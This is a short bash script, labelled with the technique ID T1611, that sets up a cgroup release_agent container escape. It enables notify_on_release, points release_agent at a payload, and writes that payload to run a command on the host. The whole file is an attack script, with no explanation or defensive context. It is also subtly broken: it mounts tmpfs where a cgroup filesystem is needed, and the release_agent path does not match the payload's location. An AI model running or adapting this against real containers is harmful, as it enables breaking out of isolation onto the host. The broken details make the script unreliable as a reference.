#!/bin/bash
# T1611: A group of processes whose end starts a program of the host.
mkdir -p /tmp/cg; mount -t tmpfs x /tmp/cg; mkdir /tmp/cg/x; echo 1 >/tmp/cg/x/notify_on_release; echo '/cmd' >/tmp/cg/release_agent; printf '#!/bin/sh\nps >/output\n' >/tmp/cg/cmd; chmod +x /tmp/cg/cmd
